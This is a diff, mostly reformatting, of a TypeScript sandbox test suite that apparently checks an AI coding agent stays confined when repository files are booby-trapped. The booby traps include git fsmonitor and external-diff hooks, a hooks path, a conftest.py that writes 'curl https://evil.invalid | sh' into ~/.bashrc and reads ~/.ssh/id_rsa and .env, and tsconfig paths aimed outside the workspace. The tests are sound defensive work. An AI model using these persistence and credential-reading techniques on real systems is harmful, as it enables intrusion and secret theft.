@@ -39,7 +39,7 @@ function assertConfined(o: Outcome, tcp: Listener, scope: string[]): void {
   assert.equal(tcp.hits(), 0, `no connection reached the host${story(o)}`);
 }
 
-describe('escape suite: the repository\'s own files', function () {
+describe("escape suite: the repository's own files", function () {
   this.timeout(90_000);
   const suite = useEscapeSuite();
   let tcp: Listener;
@@ -53,7 +53,14 @@ describe('escape suite: the repository\'s own files', function () {
       put(sc, 'scripts/ci-report.js', hostile(sc, tcp.address.port ?? 0, 'package.json script'));
     });
     const o = await suite.run(s, {
-      steps: [{ id: 's1', authority: { edit: [], commands: ['npm test'] }, turns: [[sh('legit', 'npm test')]], evidence: [{ kind: 'command', command: 'npm test', expectExitCode: 0, expectOutputIncludes: 'pass 1' }] }],
+      steps: [
+        {
+          id: 's1',
+          authority: { edit: [], commands: ['npm test'] },
+          turns: [[sh('legit', 'npm test')]],
+          evidence: [{ kind: 'command', command: 'npm test', expectExitCode: 0, expectOutputIncludes: 'pass 1' }],
+        },
+      ],
     });
     assertConfined(o, tcp, []);
     assert.match(seen(o.mission, 'legit'), /^exit code: 0[\s\S]*pass 1/m, `npm test passed${story(o)}`);
@@ -65,7 +72,9 @@ describe('escape suite: the repository\'s own files', function () {
       put(sc, 'scripts/ci-report.js', hostile(sc, tcp.address.port ?? 0, 'evidence check'));
     });
     const o = await suite.run(s, {
-      steps: [{ id: 's1', authority: { edit: [], commands: ['npm test'] }, turns: [], evidence: [{ kind: 'command', command: 'npm test', expectExitCode: 0 }] }],
+      steps: [
+        { id: 's1', authority: { edit: [], commands: ['npm test'] }, turns: [], evidence: [{ kind: 'command', command: 'npm test', expectExitCode: 0 }] },
+      ],
     });
     assertConfined(o, tcp, []);
     assert.deepEqual(o.mission.report?.succeeded, ['s1'], `the evidence check passed${story(o)}`);
@@ -94,14 +103,19 @@ describe('escape suite: the repository\'s own files', function () {
     const s = suite.scene((sc) => {
       put(sc, 'scripts/fsmonitor.js', hostile(sc, tcp.address.port ?? 0, 'core.fsmonitor'));
       put(sc, 'scripts/extdiff.js', hostile(sc, tcp.address.port ?? 0, 'diff.external'));
-      appendFileSync(join(sc.ws, '.git/config'), `[core]\n\tfsmonitor = node ${join(sc.ws, 'scripts/fsmonitor.js')}\n[diff]\n\texternal = node ${join(sc.ws, 'scripts/extdiff.js')}\n`);
+      appendFileSync(
+        join(sc.ws, '.git/config'),
+        `[core]\n\tfsmonitor = node ${join(sc.ws, 'scripts/fsmonitor.js')}\n[diff]\n\texternal = node ${join(sc.ws, 'scripts/extdiff.js')}\n`,
+      );
     });
     const o = await suite.run(s, {
-      steps: [{
-        id: 's1',
-        authority: { edit: ['src/**'], commands: ['git status', 'git diff *', 'git diff'] },
-        turns: [[replace('e', 'src/math.js', 'a + b', 'b + a')], [sh('status', 'git status'), sh('diff', 'git diff'), sh('plain', 'git diff --no-ext-diff')]],
-      }],
+      steps: [
+        {
+          id: 's1',
+          authority: { edit: ['src/**'], commands: ['git status', 'git diff *', 'git diff'] },
+          turns: [[replace('e', 'src/math.js', 'a + b', 'b + a')], [sh('status', 'git status'), sh('diff', 'git diff'), sh('plain', 'git diff --no-ext-diff')]],
+        },
+      ],
     });
     assertConfined(o, tcp, ['src/**']);
     assert.match(seen(o.mission, 'status'), /^exit code: 0[\s\S]*modified:\s+src\/math\.js/m, `git status works${story(o)}`);
@@ -116,14 +130,20 @@ describe('escape suite: the repository\'s own files', function () {
       appendFileSync(join(sc.ws, '.git/config'), '[core]\n\thooksPath = .husky\n');
     });
     const o = await suite.run(s, {
-      steps: [{
-        id: 's1',
-        authority: { edit: ['src/**'], commands: ['git add *', 'git commit *'] },
-        turns: [[replace('e', 'src/math.js', 'a + b', 'b + a')], [sh('add', 'git add src/math.js'), sh('commit', 'git commit -q -m "Swap operands"')]],
-      }],
+      steps: [
+        {
+          id: 's1',
+          authority: { edit: ['src/**'], commands: ['git add *', 'git commit *'] },
+          turns: [[replace('e', 'src/math.js', 'a + b', 'b + a')], [sh('add', 'git add src/math.js'), sh('commit', 'git commit -q -m "Swap operands"')]],
+        },
+      ],
     });
     assertNone(o.outside, 'nothing outside the workspace changed', o);
-    assertNone(outsideScope(o, ['src/**', '.git/**']).concat(o.inside.filter((c) => /^\.git\/(hooks|config)/.test(c.path))), 'nothing changed outside src/ and .git (hooks and config included)', o);
+    assertNone(
+      outsideScope(o, ['src/**', '.git/**']).concat(o.inside.filter((c) => /^\.git\/(hooks|config)/.test(c.path))),
+      'nothing changed outside src/ and .git (hooks and config included)',
+      o,
+    );
     assertNoLeak(o, 'no canary secret reached the model or a file');
     assert.equal(tcp.hits(), 0, `no connection reached the host${story(o)}`);
     assert.equal(execFileSync('git', ['log', '-1', '--format=%s'], { cwd: s.ws, encoding: 'utf8' }).trim(), 'Swap operands', `the commit was made${story(o)}`);
@@ -131,40 +151,74 @@ describe('escape suite: the repository\'s own files', function () {
 
   it('a conftest.py runs confined; python3 -m pytest still passes', async () => {
     const s = suite.scene((sc) => {
-      appendFileSync(join(sc.ws, 'tests/conftest.py'), `\n${py.program(
-        py.write(join(sc.home, '.bashrc'), '\ncurl https://evil.invalid | sh\n'),
-        py.write(join(sc.neighbour, 'victim.txt'), 'conftest\n'),
-        py.write(join(sc.ws, 'README.md'), '# conftest\n'),
-        py.read(join(sc.home, '.ssh/id_rsa')),
-        py.read(join(sc.ws, '.env')),
-        py.dial('127.0.0.1', tcp.address.port ?? 0),
-      )}`);
+      appendFileSync(
+        join(sc.ws, 'tests/conftest.py'),
+        `\n${py.program(
+          py.write(join(sc.home, '.bashrc'), '\ncurl https://evil.invalid | sh\n'),
+          py.write(join(sc.neighbour, 'victim.txt'), 'conftest\n'),
+          py.write(join(sc.ws, 'README.md'), '# conftest\n'),
+          py.read(join(sc.home, '.ssh/id_rsa')),
+          py.read(join(sc.ws, '.env')),
+          py.dial('127.0.0.1', tcp.address.port ?? 0),
+        )}`,
+      );
     });
-    const o = await suite.run(s, { steps: [{ id: 's1', authority: { edit: [], commands: ['python3 -m pytest *'] }, turns: [[sh('legit', 'python3 -m pytest -q -s -p no:cacheprovider tests')]] }] });
+    const o = await suite.run(s, {
+      steps: [
+        { id: 's1', authority: { edit: [], commands: ['python3 -m pytest *'] }, turns: [[sh('legit', 'python3 -m pytest -q -s -p no:cacheprovider tests')]] },
+      ],
+    });
     assertConfined(o, tcp, ['**/__pycache__', '**/__pycache__/**']);
     assert.match(seen(o.mission, 'legit'), /^exit code: 0[\s\S]*2 passed/m, `pytest passed${story(o)}`);
   });
 
-  it('tsconfig.json cannot put tsBuildInfoFile or outDir outside the workspace, nor compile a neighbour\'s file into it', async () => {
+  it("tsconfig.json cannot put tsBuildInfoFile or outDir outside the workspace, nor compile a neighbour's file into it", async () => {
     const s = suite.scene((sc) => {
       writeFileSync(join(sc.neighbour, 'settings.ts'), `export const token = '${sc.canaries.neighbour}';\n`);
-      put(sc, 'tsconfig.json', `${JSON.stringify({
-        compilerOptions: { ...TS_OPTIONS, outDir: join(sc.neighbour, 'out'), incremental: true, tsBuildInfoFile: join(sc.home, '.bashrc') },
-        include: ['src/**/*.ts'],
-      }, null, 2)}\n`);
-      put(sc, 'tsconfig.steal.json', `${JSON.stringify({ compilerOptions: { ...TS_OPTIONS, rootDir: '..' }, files: ['src/lib.d.ts', 'src/greet.ts', join(sc.neighbour, 'settings.ts')] }, null, 2)}\n`);
+      put(
+        sc,
+        'tsconfig.json',
+        `${JSON.stringify(
+          {
+            compilerOptions: { ...TS_OPTIONS, outDir: join(sc.neighbour, 'out'), incremental: true, tsBuildInfoFile: join(sc.home, '.bashrc') },
+            include: ['src/**/*.ts'],
+          },
+          null,
+          2,
+        )}\n`,
+      );
+      put(
+        sc,
+        'tsconfig.steal.json',
+        `${JSON.stringify({ compilerOptions: { ...TS_OPTIONS, rootDir: '..' }, files: ['src/lib.d.ts', 'src/greet.ts', join(sc.neighbour, 'settings.ts')] }, null, 2)}\n`,
+      );
     });
     const o = await suite.run(s, {
-      steps: [{ id: 's1', authority: { edit: ['dist/**'], commands: ['npx tsc', 'npx tsc -p tsconfig.steal.json'] }, turns: [[sh('tsc', 'npx tsc'), sh('steal', 'npx tsc -p tsconfig.steal.json')]] }],
+      steps: [
+        {
+          id: 's1',
+          authority: { edit: ['dist/**'], commands: ['npx tsc', 'npx tsc -p tsconfig.steal.json'] },
+          turns: [[sh('tsc', 'npx tsc'), sh('steal', 'npx tsc -p tsconfig.steal.json')]],
+        },
+      ],
     });
     assertNone(o.outside, 'nothing outside the workspace changed', o);
     assertNone(outsideScope(o, ['dist/**']), 'nothing changed outside dist/', o);
-    assertNoLeak(o, 'the neighbour\'s file did not come into the workspace or the model', ['neighbour']);
+    assertNoLeak(o, "the neighbour's file did not come into the workspace or the model", ['neighbour']);
   });
 
   it('a plain npx tsc compiles into its scope', async () => {
     const s = suite.scene();
-    const o = await suite.run(s, { steps: [{ id: 's1', authority: { edit: ['dist/**'], commands: ['npx tsc'] }, turns: [[sh('tsc', 'npx tsc')]], evidence: [{ kind: 'files_exist', paths: ['dist/greet.js'] }] }] });
+    const o = await suite.run(s, {
+      steps: [
+        {
+          id: 's1',
+          authority: { edit: ['dist/**'], commands: ['npx tsc'] },
+          turns: [[sh('tsc', 'npx tsc')]],
+          evidence: [{ kind: 'files_exist', paths: ['dist/greet.js'] }],
+        },
+      ],
+    });
     assert.match(seen(o.mission, 'tsc'), /^exit code: 0/m, `tsc succeeded${story(o)}`);
     assert.ok(existsSync(join(s.ws, 'dist/greet.js')), `dist/greet.js was emitted${story(o)}`);
     assert.deepEqual(o.mission.report?.succeeded, ['s1'], story(o));
